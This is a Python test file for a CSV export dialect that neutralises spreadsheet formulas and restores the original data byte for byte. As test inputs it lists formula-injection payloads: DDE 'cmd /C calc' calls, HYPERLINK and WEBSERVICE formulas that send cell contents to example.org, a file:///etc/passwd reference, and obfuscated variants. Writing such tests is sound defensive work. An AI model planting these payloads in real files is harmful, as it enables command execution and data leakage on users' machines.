"""The excel dialect: nothing in it runs, and everything in it can be restored."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assessment_pipeline.core.excel_dialect import (
    BYTE_ORDER_MARK,
    NUMERIC_COLUMNS,
    is_live,
    protect,
    restore,
    to_excel,
    unprotect,
)
from assessment_pipeline.core.exports import COLUMNS, EVIDENCE, SCORECARDS, csv_cell, header
from assessment_pipeline.errors import IntegrityError

# What spreadsheets are attacked with: plain, hidden behind blanks, in full-width forms.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1,"open")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"")',
    "='file:///etc/passwd'#$passwd.A1",
    '=IMAGE("https://example.org/?"&B2)',
    "=A1",
    "=",
    "+1+1",
    "+SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "+",
    "+1 234",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "-",
    "-1-1",
    "@SUM(A1:A9)",
    "@A1",
    "@",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\ttext",
    "\rtext",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "  \n @A1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\uff5ccalc",
    "\uff051",
    "\x0b=1+1",
)
NUMBERS = ("-5", "+3.14", "0", "12", "-0.5", "3.0")

cells = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20),
    st.text("=+-@|%'\t\r\n\", ;0a\uff1d", max_size=6),
    st.sampled_from(FORMULAS),
)
numbers = st.sampled_from(("", "0", "-1", "1/3", "-2/7", "12.5", "100"))


def csv_lines(name: str, rows: list[list[str]]) -> list[str]:
    """Return our CSV file with these rows, as lines that end in LF."""
    text = header(name).decode() + "".join(",".join(map(csv_cell, row)) + "\n" for row in rows)
    return io.StringIO(text, newline="\n").readlines()


def parsed(lines: list[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines), newline=""), strict=True))


@st.composite
def rows_of(draw: st.DrawFn, name: str) -> list[list[str]]:
    columns = [numbers if column in NUMERIC_COLUMNS else cells for column in COLUMNS[name]]
    return draw(st.lists(st.tuples(*columns).map(list), max_size=4))


def evidence_row(**values: str) -> list[str]:
    return [values.get(column, "") for column in COLUMNS[EVIDENCE]]


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_formula_is_made_text_and_restored(formula: str) -> None:
    lines = csv_lines(EVIDENCE, [evidence_row(response=formula, item_id=formula)])

    written = list(to_excel(EVIDENCE, lines))

    cells_written = dict(zip(COLUMNS[EVIDENCE], parsed(written)[1], strict=True))
    assert cells_written["response"] == cells_written["item_id"] == "'" + formula
    assert "".join(restore(EVIDENCE, written)) == "".join(lines)


def test_there_are_at_least_40_formulas() -> None:
    assert len(set(FORMULAS)) >= 40


@pytest.mark.parametrize("number", NUMBERS)
def test_a_plain_number_in_a_text_column_stays(number: str) -> None:
    assert protect(number) == number


@pytest.mark.parametrize("text", ["B", "", "3.14 =", "a=b", "\u2212 5", "x@y", '["=1"]', "  "])
def test_a_text_that_no_spreadsheet_runs_stays(text: str) -> None:
    assert protect(text) == text


def test_an_apostrophe_of_the_text_is_kept_apart_from_ours() -> None:
    assert [protect(text) for text in ("'=1", "'tis", "''")] == ["''=1", "''tis", "'''"]


@given(cells)
def test_protecting_leaves_nothing_live_and_removing_one_apostrophe_restores(text: str) -> None:
    protected = protect(text)
    assert unprotect(protected) == text
    assert not is_live(protected)


@given(rows_of(EVIDENCE))
def test_evidence_is_restored_byte_for_byte(rows: list[list[str]]) -> None:
    lines = csv_lines(EVIDENCE, rows)
    assert "".join(restore(EVIDENCE, to_excel(EVIDENCE, lines))) == "".join(lines)


@given(rows_of(SCORECARDS))
def test_no_text_cell_of_the_dialect_is_live_and_numbers_are_untouched(
    rows: list[list[str]],
) -> None:
    written = list(to_excel(SCORECARDS, csv_lines(SCORECARDS, rows)))
    read = parsed(written)[1:]
    assert len(read) == len(rows)
    for row, row_read in zip(rows, read, strict=True):
        for column, cell, cell_read in zip(COLUMNS[SCORECARDS], row, row_read, strict=True):
            if column in NUMERIC_COLUMNS:
                assert cell_read == cell
            else:
                assert not is_live(cell_read)


def test_a_negative_fraction_of_a_score_is_never_touched() -> None:
    row = evidence_row(raw_score="-0.333333", raw_score_exact="-1/3")
    assert list(to_excel(EVIDENCE, csv_lines(EVIDENCE, [row])))[1].count("'") == 0


def test_the_file_begins_with_one_byte_order_mark() -> None:
    written = "".join(to_excel(EVIDENCE, csv_lines(EVIDENCE, [evidence_row(response="\ufeff")])))
    assert written.startswith(BYTE_ORDER_MARK + "delivery_date,")


def test_a_header_alone_gives_a_header_alone() -> None:
    assert "".join(to_excel(EVIDENCE, csv_lines(EVIDENCE, []))) == (
        BYTE_ORDER_MARK + header(EVIDENCE).decode()
    )


def test_a_cell_of_a_megabyte_is_copied() -> None:
    row = evidence_row(response="=" + "a" * (1 << 20))
    lines = csv_lines(EVIDENCE, [row])
    assert "".join(restore(EVIDENCE, to_excel(EVIDENCE, lines))) == "".join(lines)


@pytest.mark.parametrize(
    "lines",
    [
        [],
        ["attempt,session_id\n"],
        [header(EVIDENCE).decode(), "2026-11-20,numeracy\n"],
        [header(EVIDENCE).decode(), '"2026-11-20,numeracy\n'],
        [header(EVIDENCE).decode(), '"2026"x,numeracy\n'],
    ],
    ids=["empty", "other header", "short row", "cut in a cell", "text after a quote"],
)
def test_a_file_that_is_not_ours_is_refused(lines: list[str]) -> None:
    with pytest.raises(IntegrityError, match=r"evidence\.csv is not as it was exported"):
        list(to_excel(EVIDENCE, lines))
